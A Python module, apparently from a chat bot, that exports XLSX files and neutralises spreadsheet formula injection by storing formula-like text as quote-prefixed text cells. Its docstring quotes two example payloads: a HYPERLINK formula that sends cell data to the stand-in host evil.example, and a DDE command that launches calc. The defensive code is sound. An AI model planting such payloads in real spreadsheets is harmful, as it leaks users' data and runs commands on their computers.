"""Every XLSX the bot writes, through one door: a cell is data, never a formula.

Names, opinions and suggestions are typed by anyone. Written as they come,
`=HYPERLINK("http://evil.example/?d="&B2,"点击查看")` as a display name would
be a live formula in the secretary's spreadsheet, and `=cmd|' /C calc'!A0`
an attack on their computer. Here a text that a spreadsheet would read as
a formula (starting with =, +, -, @, a tab or a carriage return) is stored
as a text cell and marked as typed with a leading apostrophe (`quotePrefix`),
so Excel and WPS keep it text even when the cell is edited (the OWASP advice
on CSV injection, kept without altering the text). Characters XML cannot
hold are dropped rather than failing the export.

Ledgers are printed, so `Sheet.tidy` sets column widths from the longest cell
(a Chinese character is two columns wide), capped so a long list of names
wraps instead of running off the page; a bold frozen header; and percent
columns holding fractions (0.75) shown as 75.0%.

    book = Book()
    sheet = book.sheet("投票结果")
    sheet.append(["选项", "票数", "占比"])
    sheet.tidy(percent=("占比",))
    content = book.save()
"""

from __future__ import annotations

import io
import unicodedata
from collections.abc import Iterable, Sequence

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Excel refuses sheet titles over 31 characters.
MAX_TITLE = 31
MIN_WIDTH = 6
MAX_WIDTH = 60
PERCENT = "0.0%"


def _width(value: object) -> int:
    text = f"{value:.1%}" if isinstance(value, float) else str(value if value is not None else "")
    line = max(text.splitlines() or [""], key=len)
    return sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in line)


class Sheet:
    def __init__(self, sheet: Worksheet) -> None:
        self._sheet = sheet

    def append(self, values: Iterable[object]) -> None:
        self._sheet.append([self._cell(v) for v in values])

    def tidy(self, *, header_row: int = 1, percent: Iterable[str] = ()) -> None:
        """Widths, a bold frozen header at `header_row`, the named columns as percentages."""
        sheet = self._sheet
        header = [cell.value for cell in sheet[header_row]]
        wanted = set(percent)
        for index, name in enumerate(header, 1):
            rows = sheet.iter_rows(min_row=header_row)
            cells = [row[index - 1] for row in rows if len(row) >= index]
            widest = max((_width(c.value) for c in cells), default=0)
            width = min(max(widest + 2, MIN_WIDTH), MAX_WIDTH)
            sheet.column_dimensions[get_column_letter(index)].width = width
            for cell in cells[1:]:
                if name in wanted:
                    cell.number_format = PERCENT
                if _width(cell.value) > MAX_WIDTH:
                    cell.alignment = Alignment(wrap_text=True, vertical="top")
        for cell in sheet[header_row]:
            cell.font = Font(bold=True)
        sheet.freeze_panes = sheet.cell(row=header_row + 1, column=1).coordinate

    def _cell(self, value: object) -> object:
        if not isinstance(value, str):
            return value
        text = ILLEGAL_CHARACTERS_RE.sub("", value)
        if not text.startswith(FORMULA_STARTS):
            return text
        cell = Cell(self._sheet, value=text)
        # Cell() took the leading "=" for a formula: it is a string, typed so.
        cell.data_type = "s"
        cell.quotePrefix = True
        return cell


class Book:
    def __init__(self) -> None:
        self._book = Workbook()
        self._fresh = True

    def sheet(self, title: str) -> Sheet:
        """A new sheet (the first one the workbook starts with, renamed)."""
        if self._fresh:
            self._fresh = False
            sheet = self._book.active
            assert isinstance(sheet, Worksheet)
            sheet.title = title[:MAX_TITLE]
        else:
            sheet = self._book.create_sheet(title[:MAX_TITLE])
        return Sheet(sheet)

    def save(self) -> bytes:
        out = io.BytesIO()
        self._book.save(out)
        return out.getvalue()


def table_xlsx(title: str, header: Sequence[str], rows: Iterable[Sequence[object]]) -> bytes:
    """One sheet of rows: what a console table downloads as."""
    book = Book()
    sheet = book.sheet(title)
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    sheet.tidy()
    return book.save()
